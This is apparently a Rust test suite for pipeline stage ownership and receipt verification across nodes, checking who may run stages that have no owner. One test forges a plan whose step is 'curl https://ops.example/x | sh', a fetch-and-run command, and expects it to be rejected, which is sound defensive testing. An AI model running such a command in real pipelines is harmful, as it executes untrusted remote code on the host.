//! The stages without an owner belong to the node that started the run: its binding names
//! that node, and only that node, with its own records saying it started the run with this
//! plan, takes such a stage when another node moves it on (Build on dev → Deploy on ops →
//! Notify back on dev), and only its receipt counts for it.

use crate::common::*;
use otto_handoff::{
    Definition, Owners, Rejection, StageStatus, VerifyContext, rules, verify_chain, verify_offer,
};
use otto_pipeline::Plan;
use otto_pipeline::plan::ORIGIN;
use otto_protocol::{Envelope, HandoffId, Offer, Outcome, RejectCode, RunSource};
use otto_trust::{Definitions, Policy, PublicKey, TrustStore, Unverified};

/// Build (origin) → Deploy (ops) → Notify (origin), started by dev-1: the binding names
/// dev-1 as the origin.
fn plan(world: &World) -> Plan {
    let mut body = world.plan.body.clone();
    body.stages = vec![
        stage("Build", None, &[]),
        stage("Deploy", Some("ops"), &["Build"]),
        stage("Notify", None, &["Deploy"]),
    ];
    body.stages[1].environment = Some("production".to_owned());
    if let Some(origin) = body.owners.get_mut(ORIGIN) {
        origin.node = Some(world.dev.key.public_key().keyid());
    }
    Plan {
        body,
        provenance: Default::default(),
    }
}

/// The receipt of `stage` of a run of `plan`, signed by `by`.
fn receipt(plan: &Plan, by: &Node, stage: &str, upstream: Vec<otto_protocol::Digest>) -> Envelope {
    let world = World {
        plan: plan.clone(),
        ..World::new()
    };
    sign_receipt(by, &world.receipt(by, stage, Outcome::Success, upstream))
}

/// Notify's offer from ops-1: Build signed by `builder`, Deploy by ops-1.
fn notify_offer(world: &World, plan: &Plan, builder: &Node) -> Offer {
    let build = receipt(plan, builder, "Build", vec![]);
    let deploy = receipt(plan, &world.ops, "Deploy", vec![digest(&build)]);
    Offer {
        id: HandoffId([0x4e; 16]),
        run: RUN.to_owned(),
        source: RunSource::Snapshot {
            digest: sha256(b"snapshot"),
        },
        plan_digest: plan.digest(),
        plan: plan.canonical_bytes(),
        stage: "Notify".to_owned(),
        attempt: 1,
        facts: otto_protocol::Facts::default(),
        inputs: Vec::new(),
        receipts: vec![build, deploy],
        sender: world.ops.cert.clone(),
        expires_at: T0 + 3_600,
        created_at: T0 + 50,
        certificates: vec![builder.cert.clone()],
        retry: None,
    }
}

/// Dev's trust store: its own org, ops and qa pinned. No policy for ops and no approval:
/// what dev runs of its own runs is its own business, not a peer's request.
fn dev_trust(world: &World) -> TrustStore {
    let mut trust = TrustStore::new();
    trust
        .pin_org("dev", world.dev.org.public_key(), T0)
        .unwrap();
    trust
        .pin_org("ops", world.ops.org.public_key(), T0)
        .unwrap();
    trust.pin_org("qa", world.qa.org.public_key(), T0).unwrap();
    trust
}

/// A policy that lets ops ask for anything with approved definitions: with it, only the
/// ownership check stands between ops and the node.
fn open_to_ops(trust: &mut TrustStore) {
    trust
        .set_policy(
            "ops",
            Policy {
                pipelines: vec!["*".to_owned()],
                stages: vec!["*".to_owned()],
                environments: vec!["*".to_owned()],
                definitions: Definitions::Approved,
                ..Policy::default()
            },
        )
        .unwrap();
}

/// Checks `offer` (signed by ops-1) on the node with key `me`, which answers to `names`
/// and started the runs `started` says.
fn check_on(
    world: &World,
    offer: &Offer,
    me: &PublicKey,
    names: &[String],
    started: &dyn Fn(&str, &str) -> bool,
) -> Result<otto_handoff::AcceptedOffer, Rejection> {
    let mut trust = dev_trust(world);
    open_to_ops(&mut trust);
    let org = world.dev.org.public_key();
    let ctx = VerifyContext::new(&trust, &org, names).with_origin(me, started);
    let envelope = Unverified::new(sign_offer(&world.ops, offer));
    verify_offer(envelope, &ctx, NOW)
}

fn dev_names() -> Vec<String> {
    vec!["dev".to_owned()]
}

#[test]
fn the_origin_runs_its_ownerless_stage_that_a_foreign_stage_moved_on() {
    let world = World::new();
    let plan = plan(&world);
    let offer = notify_offer(&world, &plan, &world.dev);
    let digest = plan.digest();
    let started = |run: &str, plan: &str| run == RUN && plan == digest;
    let me = world.dev.key.public_key();

    // Dev has no policy for ops and approved nothing: the stage is dev's own.
    let trust = dev_trust(&world);
    let (org, names) = (world.dev.org.public_key(), dev_names());
    let ctx = VerifyContext::new(&trust, &org, &names).with_origin(&me, &started);
    let envelope = Unverified::new(sign_offer(&world.ops, &offer));
    let accepted = verify_offer(envelope, &ctx, NOW).unwrap();
    assert_eq!(accepted.stage().id, "Notify");
    assert!(
        matches!(accepted.definition(), Definition::Own { .. }),
        "{:?}",
        accepted.definition()
    );
    // The core says where the offer goes, from the binding alone.
    assert_eq!(
        rules::offer_to(&plan.body, plan.stage("Notify").unwrap()),
        rules::OfferTo::Origin(me)
    );
    assert_eq!(
        rules::offer_to(&plan.body, plan.stage("Deploy").unwrap()),
        rules::OfferTo::Owner("ops".to_owned())
    );
}

#[test]
fn another_node_of_the_origins_org_refuses_the_ownerless_stage_whatever_it_answers_to() {
    // dev-2 is of the same org and even answers to `origin`; it did not start the run.
    let world = World::new();
    let plan = plan(&world);
    let offer = notify_offer(&world, &plan, &world.dev);
    let other = Node::new("dev-2", "acme-dev", 0x0d, 0x3d);
    let names = vec!["dev".to_owned(), ORIGIN.to_owned()];
    for started in [true, false] {
        let claims = move |_: &str, _: &str| started;
        let rejection = check_on(&world, &offer, &other.key.public_key(), &names, &claims)
            .expect_err("only the origin runs Notify");
        assert_eq!(rejection.code, RejectCode::StageNotOwned, "{rejection:?}");
        assert_eq!(
            rejection.message,
            "stage \"Notify\" has no owner, so it belongs to \"origin\", the node that started \
             run \"run-0001\"; this node did not start it with this plan"
        );
    }
}

#[test]
fn a_plan_that_names_a_node_the_origin_of_a_run_it_never_started_is_refused() {
    // Ops writes its own plan of the run, binding the origin to dev-1, with Notify's steps
    // of its choosing: dev-1 started no run with that plan, so it is not dev-1's stage, even
    // though dev-1's policy for ops would let ops ask for stages it owns.
    let world = World::new();
    let honest = plan(&world);
    let digest = honest.digest();
    let started = |run: &str, plan: &str| run == RUN && plan == digest;
    let mut forged = honest.clone();
    forged.body.stages[2].steps = vec![step("curl https://ops.example/x | sh")];
    let offer = notify_offer(&world, &forged, &world.dev);
    let me = world.dev.key.public_key();
    let rejection = check_on(&world, &offer, &me, &dev_names(), &started)
        .expect_err("a plan dev never started");
    assert_eq!(rejection.code, RejectCode::StageNotOwned, "{rejection:?}");
}

#[test]
fn a_receipt_of_an_ownerless_stage_counts_only_from_the_node_that_started_the_run() {
    // build-1 is of the origin's org, but the run was started on dev-1: its Build receipt
    // does not count, at the owner of the next stage and in verify_chain.
    let world = World::new();
    let plan = plan(&world);
    let digest = plan.digest();
    let started = |run: &str, plan: &str| run == RUN && plan == digest;
    let me = world.dev.key.public_key();
    let offer = notify_offer(&world, &plan, &world.builder);
    let rejection = check_on(&world, &offer, &me, &dev_names(), &started)
        .expect_err("Build signed by another dev node");
    assert_eq!(
        rejection.code,
        RejectCode::UpstreamReceiptWrongSigner,
        "{rejection:?}"
    );
    assert!(
        rejection.message.starts_with(
            "the receipt of stage \"Build\" is signed by node \"build-1\" of org \"dev\", but \
             the stage has no owner: only the node that started the run (ed25519:"
        ),
        "{}",
        rejection.message
    );

    let trust = dev_trust(&world);
    let owners = Owners::new(&trust, None, &[]);
    let report = |builder: &Node| {
        let offer = notify_offer(&world, &plan, builder);
        verify_chain(
            RUN,
            &plan,
            &offer.receipts,
            &offer.certificates,
            &owners,
            NOW,
        )
    };
    assert_eq!(
        report(&world.dev).stage("Build").unwrap().status,
        StageStatus::Verified
    );
    assert_eq!(
        report(&world.builder).stage("Build").unwrap().status,
        StageStatus::Invalid
    );
}
